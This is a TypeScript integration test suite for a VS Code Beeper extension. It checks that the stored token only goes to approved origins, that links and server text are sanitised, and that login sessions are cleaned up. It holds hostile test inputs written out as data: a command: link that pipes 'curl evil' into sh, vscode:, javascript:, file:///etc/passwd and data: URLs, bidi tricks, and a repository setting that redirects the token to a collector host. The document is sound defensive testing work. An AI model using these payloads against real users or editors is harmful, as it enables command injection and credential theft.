// Trust, in the real host: the stored token only goes where the user sent it; server text
// never becomes markup in notifications or quick picks; no login session is left open on any
// path; a bad base URL is explained, not thrown; big groups stay bounded.
import * as assert from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { BeeperExtensionApi } from '../../src/extension';
import type { LoginResult } from '../../src/login/loginService';
import { LoginDisplayPanel } from '../../src/webviews/loginPanel';
import { activateExtension, children, openChatPage, resetSandbox, sandbox, sandboxUrl, waitFor, withRepositorySettings } from './helpers';

type State = { openLoginSessions: number; loginSessions: { bridgeID: string; status: string }[]; requests: { total: number } };
const HOSTILE = 'Pay [now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D) $(zap)$(alert) \u202Eexe.txt';

function assertInert(text: string, where: string): void {
  assert.ok(!/\]\s*\(/.test(text), `${where}: no link can form in “${text}”`);
  assert.ok(!text.includes('$(zap)') && !text.includes('$(alert)'), `${where}: no codicon from server text in “${text}”`);
  assert.ok(!/[\u202a-\u202e\u2066-\u2069]/.test(text), `${where}: no bidi control`);
}

suite('Trust: where the token goes, hostile text, logins that end, bounded panels', () => {
  let api: BeeperExtensionApi;
  const env = { base: process.env.BEEPER_DESKTOP_BASE_URL, token: process.env.BEEPER_ACCESS_TOKEN };
  const real = { error: vscode.window.showErrorMessage, warning: vscode.window.showWarningMessage, info: vscode.window.showInformationMessage, pick: vscode.window.showQuickPick, create: vscode.window.createQuickPick, box: vscode.window.createInputBox };
  suiteSetup(async () => {
    api = await activateExtension();
  });
  setup(resetSandbox);
  teardown(async () => {
    Object.assign(vscode.window, { showErrorMessage: real.error, showWarningMessage: real.warning, showInformationMessage: real.info, showQuickPick: real.pick, createQuickPick: real.create, createInputBox: real.box });
    process.env.BEEPER_DESKTOP_BASE_URL = env.base;
    process.env.BEEPER_ACCESS_TOKEN = env.token;
    await sandbox('DELETE', '/_sandbox/faults');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    const state = await sandbox<State>('GET', '/_sandbox/state');
    assert.strictEqual(state.openLoginSessions, 0, 'no login session is left open');
  });

  test('settings that widen where the token goes or what the agent may do are user-only; a repository\'s values are ignored', async () => {
    const pkg = vscode.extensions.getExtension('beeper-vscode.beeper-vscode')!.packageJSON as {
      contributes: { configuration: { properties: Record<string, { scope?: string }> } };
      capabilities: { untrustedWorkspaces: { supported: unknown; restrictedConfigurations?: string[] } };
      extensionKind?: string[];
    };
    const restricted = ['beeper.baseUrl', 'beeper.localMediaRoots', 'beeper.loadRemoteImages', 'beeper.languageModelTools', 'beeper.mcpServer', 'beeper.chat.participant', 'beeper.ai.shareMessages', 'beeper.ai.maxChars', 'beeper.ai.pseudonyms'];
    for (const key of restricted) assert.strictEqual(pkg.contributes.configuration.properties[key]?.scope, 'application', key);
    assert.deepStrictEqual(pkg.capabilities.untrustedWorkspaces.restrictedConfigurations, restricted);
    assert.strictEqual(pkg.capabilities.untrustedWorkspaces.supported, 'limited');
    assert.deepStrictEqual(pkg.extensionKind, ['ui', 'workspace']);

    // A repository's .vscode/settings.json (as VS Code surfaces it: a workspace value) turns on the
    // send tool, the MCP server and remote images, and points the address elsewhere.
    const repo: Record<string, unknown> = { languageModelTools: 'readAndSend', mcpServer: true, loadRemoteImages: true, baseUrl: 'https://collector.example' };
    try {
      await withRepositorySettings(repo, async () => {
        api.tools.apply();
        assert.ok(!api.tools.registered.includes('beeper_sendMessage'), 'the send tool stays off');
        assert.deepStrictEqual(await api.mcp.provideMcpServerDefinitions(), [], 'no token-bearing MCP server');
        delete process.env.BEEPER_DESKTOP_BASE_URL; // restored by teardown
        assert.strictEqual(api.connection.baseUrl, 'http://localhost:23373', 'the address is not the repository\'s');
      });
    } finally {
      api.tools.apply();
    }
  });

  test('a link opens only through our confirmation with the real URL: vscode: and javascript: never, mailto: only copied, previews checked too', async () => {
    const chatID = '!links:sandbox.localhost';
    await sandbox('POST', '/_sandbox/chats', { accountID: 'matrix', id: chatID, title: 'Links', type: 'single' });
    await sandbox('POST', `/_sandbox/chats/${encodeURIComponent(chatID)}/messages`, {
      text: '<a href="https://good.example/page">good</a>',
      links: [
        { url: 'vscode://vscode.git/clone?url=https://evil.example/repo', title: 'A preview that runs a command' },
        { url: 'javascript:alert(1)', title: 'Script' },
        { url: 'https://good.example/preview', title: 'A real preview' },
      ],
    });
    const probe = await openChatPage(api, chatID, 'messages');
    const withLinks = await waitFor('the message with previews', () => probe.page.messages().find((m) => m.links?.length));
    assert.deepStrictEqual(withLinks.links!.map((l) => l.url), ['https://good.example/preview'], 'preview URLs pass the same check as links');

    const asked: { message: string; detail?: string; items: string[] }[] = [];
    const opened: string[] = [];
    const realOpen = vscode.env.openExternal;
    let answer: string | undefined;
    const ask = ((message: string, options?: vscode.MessageOptions | string, ...items: string[]) => {
      const opts = typeof options === 'object' ? options : undefined;
      asked.push({ message, detail: opts?.detail, items: typeof options === 'string' ? [options, ...items] : items });
      return Promise.resolve(answer);
    }) as unknown as typeof vscode.window.showInformationMessage;
    vscode.window.showInformationMessage = ask;
    vscode.window.showWarningMessage = ask;
    (vscode.env as { openExternal: typeof vscode.env.openExternal }).openExternal = async (uri: vscode.Uri) => {
      opened.push(uri.toString(true));
      return true;
    };
    try {
      for (const url of ['vscode://vscode.git/clone?url=https://evil.example/repo', 'javascript:alert(1)', 'command:workbench.action.terminal.new', 'file:///etc/passwd', 'data:text/html,<script>x</script>']) {
        asked.length = 0;
        answer = 'Open Link';
        await probe.receive({ type: 'openLink', url });
        assert.strictEqual(asked.length, 1, url);
        assert.match(asked[0]!.message, /only http and https links open from a message/, url);
        assert.deepStrictEqual(asked[0]!.items, [], `${url}: nothing to click that would open it`);
      }
      assert.deepStrictEqual(opened, [], 'nothing opened');

      asked.length = 0;
      answer = undefined;
      await probe.receive({ type: 'openLink', url: 'mailto:boss@evil.example?subject=hi' });
      assert.match(asked[0]!.message, /email address/);
      assert.deepStrictEqual(asked[0]!.items, ['Copy Address']);
      assert.strictEqual(asked[0]!.detail, 'boss@evil.example');
      answer = 'Copy Address';
      await probe.receive({ type: 'openLink', url: 'mailto:boss@evil.example' });
      assert.strictEqual(await vscode.env.clipboard.readText(), 'boss@evil.example');
      assert.deepStrictEqual(opened, [], 'mailto: never opens a mail program');

      asked.length = 0;
      answer = 'Open Link';
      await probe.receive({ type: 'openLink', url: 'https://good.example@evil.example/login' });
      assert.match(asked[0]!.detail, /Site: evil\.example/);
      assert.match(asked[0]!.detail, /the part before "@" is not the site/);
      assert.deepStrictEqual(opened, ['https://good.example@evil.example/login']);
      answer = undefined;
      await probe.receive({ type: 'openLink', url: 'https://good.example/page' });
      assert.strictEqual(opened.length, 1, 'no answer, nothing opened');
    } finally {
      (vscode.env as { openExternal: typeof vscode.env.openExternal }).openExternal = realOpen;
    }
  });

  test('the stored token goes to another computer only after a yes in a modal naming the host, remembered per origin', async () => {
    const config = vscode.workspace.getConfiguration('beeper');
    const asked: { host: string; insecure: boolean }[] = [];
    let answer = false;
    const realAsk = api.connection.askOrigin;
    api.connection.askOrigin = (request) => {
      asked.push({ host: request.host, insecure: request.insecure });
      return Promise.resolve(answer);
    };
    delete process.env.BEEPER_DESKTOP_BASE_URL;
    delete process.env.BEEPER_ACCESS_TOKEN;
    try {
      await config.update('baseUrl', sandboxUrl(), vscode.ConfigurationTarget.Global);
      assert.ok(await vscode.commands.executeCommand('beeper.connect', { token: env.token }), 'a token stored for the sandbox (loopback)');
      assert.deepStrictEqual(asked, [], 'nothing asked for this computer');

      // A different, non-loopback address that really is the sandbox (IPv4-mapped IPv6 loopback).
      const port = new URL(sandboxUrl()).port;
      const other = `http://[::ffff:127.0.0.1]:${port}`;
      await config.update('baseUrl', other, vscode.ConfigurationTarget.Global);
      const before = (await sandbox<State>('GET', '/_sandbox/state')).requests.total;
      const sent = api.connection.requestCount;
      assert.strictEqual(await api.connection.check(), 'notApproved');
      assert.deepStrictEqual(asked, [{ host: `[::ffff:7f00:1]:${port}`, insecure: true }], 'asked once, naming the host and the plain http');
      assert.strictEqual(api.connection.requestCount, sent, 'nothing was sent');
      assert.strictEqual((await sandbox<State>('GET', '/_sandbox/state')).requests.total, before, 'the server saw nothing');
      assert.strictEqual(await api.connection.check(), 'notApproved');
      assert.strictEqual(asked.length, 1, 'a no is remembered: not asked on every refresh');
      assert.deepStrictEqual(await children(api), [], 'the tree is empty; the welcome view explains');

      answer = true;
      assert.strictEqual(await vscode.commands.executeCommand('beeper.reviewAddress'), 'connected', 'after a yes the token reaches the server');
      assert.strictEqual(asked.length, 2);
      assert.strictEqual(await api.connection.check(), 'connected');
      await config.update('baseUrl', sandboxUrl(), vscode.ConfigurationTarget.Global);
      await config.update('baseUrl', other, vscode.ConfigurationTarget.Global);
      assert.strictEqual(await api.connection.check(), 'connected');
      assert.strictEqual(asked.length, 2, 'the yes is remembered for that origin');

      answer = false;
      await config.update('baseUrl', 'https://beeper.invalid:8443', vscode.ConfigurationTarget.Global);
      assert.strictEqual(await api.connection.check(), 'notApproved');
      assert.deepStrictEqual(asked[2], { host: 'beeper.invalid:8443', insecure: false }, 'https to another origin asks too');
    } finally {
      api.connection.askOrigin = realAsk;
      process.env.BEEPER_DESKTOP_BASE_URL = env.base;
      process.env.BEEPER_ACCESS_TOKEN = env.token;
      await api.connection.forgetToken();
      await config.update('baseUrl', undefined, vscode.ConfigurationTarget.Global);
      api.tree.reset();
    }
  });

  test('hostile server text through every notification and quick pick stays inert', async () => {
    const seen: { where: string; text: string }[] = [];
    const record = (where: string) =>
      ((message: string, ...rest: unknown[]) => {
        seen.push({ where, text: message });
        const options = rest[0] as { detail?: string } | undefined;
        if (options?.detail) seen.push({ where: `${where} detail`, text: options.detail });
        return Promise.resolve(undefined);
      }) as unknown as typeof vscode.window.showErrorMessage;
    vscode.window.showErrorMessage = record('error');
    vscode.window.showWarningMessage = record('warning');
    vscode.window.showInformationMessage = record('info');
    const picks: vscode.QuickPick<vscode.QuickPickItem>[] = [];
    vscode.window.createQuickPick = (() => {
      const p = real.create();
      picks.push(p);
      return p;
    }) as typeof vscode.window.createQuickPick;
    vscode.window.showQuickPick = ((items: readonly vscode.QuickPickItem[] | Thenable<readonly vscode.QuickPickItem[]>, options?: vscode.QuickPickOptions) => {
      void Promise.resolve(items).then((list) => {
        for (const i of list) seen.push({ where: 'showQuickPick', text: [i.label, i.description, i.detail].join(' ') }, { where: 'showQuickPick title', text: options?.title ?? '' });
      });
      return Promise.resolve(undefined);
    }) as unknown as typeof vscode.window.showQuickPick;
    const pickTexts = async (what: string) => {
      const p = await waitFor(what, () => picks.find((q) => q.items.length > 0 && !q.busy));
      for (const i of p.items) seen.push({ where: what, text: [i.label, i.description, i.detail].join(' ') });
      seen.push({ where: `${what} title`, text: p.title ?? '' });
      p.hide();
      picks.length = 0;
    };

    // Server error messages.
    await sandbox('PUT', '/_sandbox/faults', { rules: [{ path: '/v1/focus', status: 500, message: HOSTILE }] });
    await vscode.commands.executeCommand('beeper.focusChat', '!any:sandbox.localhost');
    await sandbox('PUT', '/_sandbox/faults', { rules: [{ path: '/v1/bridges', status: 500, message: HOSTILE }] });
    const pickBridge = vscode.commands.executeCommand('beeper.addAccount');
    await pickBridge;
    await sandbox('PUT', '/_sandbox/faults', { rules: [{ path: '/v1/bridges/local-telegram/login-flows', status: 500, message: HOSTILE }] });
    await vscode.commands.executeCommand('beeper.addAccount', { bridgeID: 'local-telegram' });
    await sandbox('PUT', '/_sandbox/faults', { rules: [{ path: '/v1/bridges/local-telegram/login-sessions', status: 502, message: HOSTILE }] });
    await vscode.commands.executeCommand('beeper.addAccount', { bridgeID: 'local-telegram', flowID: 'phone' });
    await sandbox('DELETE', '/_sandbox/faults');
    // A bridge's status text, and hostile names in the bridge pick.
    await sandbox('PATCH', '/_sandbox/bridges/local-telegram', { status: 'limit_reached', statusText: HOSTILE });
    await sandbox('PATCH', '/_sandbox/bridges/local-instagram', { displayName: HOSTILE });
    api.tree.refresh();
    await children(api);
    await vscode.commands.executeCommand('beeper.addAccount', { bridgeID: 'local-telegram' });
    const picking = vscode.commands.executeCommand('beeper.addAccount');
    await pickTexts('bridge pick');
    await picking;
    // Chat titles in the Open Chat pick; account names and status texts in the health pick.
    await sandbox('POST', '/_sandbox/chats', { accountID: 'matrix', title: HOSTILE, network: HOSTILE, id: '!hostile-pick:sandbox.localhost' });
    const opening = vscode.commands.executeCommand('beeper.openChat');
    await pickTexts('chat pick');
    await opening;
    await sandbox('PATCH', '/_sandbox/accounts/local-signal_ba_sandbox1', { statusText: HOSTILE, user: { id: '@x', fullName: HOSTILE } });
    api.tree.refresh();
    await children(api);
    await vscode.commands.executeCommand('beeper.showAccountHealth');

    const kinds = new Set(seen.map((s) => s.where.split(' ')[0]));
    for (const k of ['error', 'warning', 'bridge', 'chat', 'showQuickPick']) assert.ok(kinds.has(k), `the ${k} path was exercised (${[...kinds].join(', ')})`);
    assert.ok(seen.filter((s) => s.text.includes('Pay')).length >= 8, 'the hostile text reached the UI, cleaned');
    for (const s of seen) assertInert(s.text, s.where);
  });

  test('cancel while the create request is in flight: the create finishes, then the session is cancelled', async () => {
    await sandbox('PUT', '/_sandbox/faults', { rules: [{ method: 'POST', path: '/v1/bridges/local-whatsapp/login-sessions', stallAfterMs: 1_000 }] });
    const run = vscode.commands.executeCommand<LoginResult>('beeper.addAccount', { bridgeID: 'local-whatsapp' });
    await waitFor('the session on the server', async () => (await sandbox<State>('GET', '/_sandbox/state')).loginSessions.length === 1);
    await api.logins.cancelAll();
    const result = await run;
    assert.strictEqual(result.outcome.status, 'cancelled');
    const state = await sandbox<State>('GET', '/_sandbox/state');
    assert.deepStrictEqual(state.loginSessions.map((s) => s.status), ['cancelled']);
  });

  test('a create that times out: the sign-in says so and the late session is cancelled when it answers', async () => {
    const config = vscode.workspace.getConfiguration('beeper');
    await config.update('requestTimeoutSeconds', 2, vscode.ConfigurationTarget.Global);
    try {
      await sandbox('PUT', '/_sandbox/faults', { rules: [{ method: 'POST', path: '/v1/bridges/local-whatsapp/login-sessions', stallAfterMs: 3_500 }] });
      const result = await vscode.commands.executeCommand<LoginResult>('beeper.addAccount', { bridgeID: 'local-whatsapp' });
      assert.strictEqual(result.outcome.status, 'error');
      assert.match(String((result.outcome as { error: Error }).error.message), /did not start the sign-in within 2 s/);
      await waitFor('the late session cancelled', async () => (await sandbox<State>('GET', '/_sandbox/state')).loginSessions[0]?.status === 'cancelled', 8_000);
      await waitFor('the cleanup finished', () => api.logins.busy === 0);
    } finally {
      await config.update('requestTimeoutSeconds', undefined, vscode.ConfigurationTarget.Global);
    }
  });

  test('cancel while a real input box is open: the box closes and the session is cancelled', async () => {
    const boxes: vscode.InputBox[] = [];
    let hidden = 0;
    vscode.window.createInputBox = (() => {
      const box = real.box();
      box.onDidHide(() => hidden++);
      boxes.push(box);
      return box;
    });
    const run = vscode.commands.executeCommand<LoginResult>('beeper.addAccount', { bridgeID: 'local-telegram', flowID: 'phone' });
    await waitFor('the phone input box', () => boxes.length === 1);
    await api.logins.cancelAll();
    const result = await run;
    assert.strictEqual(result.outcome.status, 'cancelled');
    await waitFor('the input box to close', () => hidden === 1);
  });

  test('a sign-in past its deadline ends with a clear message and is cancelled on the server', async () => {
    api.logins.deadlineMs = 1_500;
    try {
      const result = await vscode.commands.executeCommand<LoginResult>('beeper.addAccount', { bridgeID: 'local-whatsapp' });
      assert.strictEqual(result.outcome.status, 'failed');
      assert.match((result.outcome as { error: { message: string } }).error.message, /did not finish within 1 minute and was cancelled/);
    } finally {
      api.logins.deadlineMs = 10 * 60_000;
    }
  });

  test('the login panel cleans the text of in-place updates like the first render', async () => {
    const ext = vscode.extensions.getExtension('beeper-vscode.beeper-vscode')!;
    const panel = new LoginDisplayPanel(ext.extensionUri, 'Test', () => undefined);
    try {
      const step = (instructions: string) => ({ type: 'display_and_wait' as const, stepID: 's', display: { type: 'qr' as const, data: 'x' }, instructions });
      await panel.show(step('first'));
      await panel.show(step(`evil\u202Eexe\u0007 ${'y'.repeat(5000)}`));
      assert.ok(!/[\u202a-\u202e]/.test(panel.model!.instructions) && !panel.model!.instructions.includes(String.fromCharCode(7)));
      assert.ok(panel.model!.instructions.length <= 2000);
    } finally {
      panel.dispose();
    }
  });

  test('a base URL without a scheme is explained by a welcome view, with no unhandled rejection', async () => {
    const rejections: unknown[] = [];
    const onRejection = (e: unknown) => rejections.push(e);
    process.on('unhandledRejection', onRejection);
    try {
      process.env.BEEPER_DESKTOP_BASE_URL = 'localhost:23373';
      api.tree.refresh();
      assert.deepStrictEqual(await children(api), []);
      assert.strictEqual(api.connection.state, 'misconfigured');
      assert.match(api.connection.lastError?.message ?? '', /no http:\/\/ in front/);
      await api.health.refreshNow();
      assert.strictEqual(api.health.health.kind, 'offline');
      await new Promise((r) => setTimeout(r, 200));
      assert.deepStrictEqual(rejections, []);
      const pkg = vscode.extensions.getExtension('beeper-vscode.beeper-vscode')!.packageJSON as { contributes: { viewsWelcome: { when: string }[] } };
      assert.ok(pkg.contributes.viewsWelcome.some((w) => w.when === 'beeper.state == misconfigured'));
    } finally {
      process.off('unhandledRejection', onRejection);
      process.env.BEEPER_DESKTOP_BASE_URL = env.base;
      api.tree.reset();
      await children(api);
    }
  });

  test('a 1,000-member group with a local avatar each: 100 listed first, avatars copied within the panel budget, no message over 1 MB', async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'beeper-avatars-'));
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(300 * 1024, 7)]);
    for (let i = 0; i < 1000; i++) fs.writeFileSync(path.join(root, `p${i}.png`), png);
    await vscode.workspace.getConfiguration('beeper').update('localMediaRoots', [root], vscode.ConfigurationTarget.Global);
    try {
      await sandbox('POST', '/_sandbox/chats', {
        accountID: 'matrix',
        id: '!crowd:sandbox.localhost',
        type: 'group',
        participantCount: 1000,
        participantImgURL: vscode.Uri.file(path.join(root, 'p{i}.png')).toString(),
      });
      const panel = await openChatPage(await activateExtension(), '!crowd:sandbox.localhost');
      await waitFor('the participants', () => panel.page.participants);
      assert.strictEqual(panel.page.participants!.items.length, 100);
      assert.ok(panel.html.length < 64 * 1024, `${panel.html.length} characters of HTML: a shell`);
      await panel.receive({ type: 'showMoreParticipants' });
      const more = panel.page.participants!;
      assert.strictEqual(more.items.length, 300, 'the page lists 300, by message');
      assert.ok(panel.imageBytes <= 32 * 1024 * 1024, `${panel.imageBytes} bytes of avatars copied`);
      assert.ok(more.items.filter((p) => !p.avatar).length > 50, 'past the budget, initials');
      // Every avatar is a webview resource named by key: no message carries image bytes.
      const largest = Math.max(...panel.posted.map((u) => JSON.stringify(u).length));
      assert.ok(largest < 1024 * 1024, `the largest message to the page is ${largest} characters`);
    } finally {
      await vscode.workspace.getConfiguration('beeper').update('localMediaRoots', undefined, vscode.ConfigurationTarget.Global);
      fs.rmSync(root, { recursive: true, force: true });
    }
  });
});
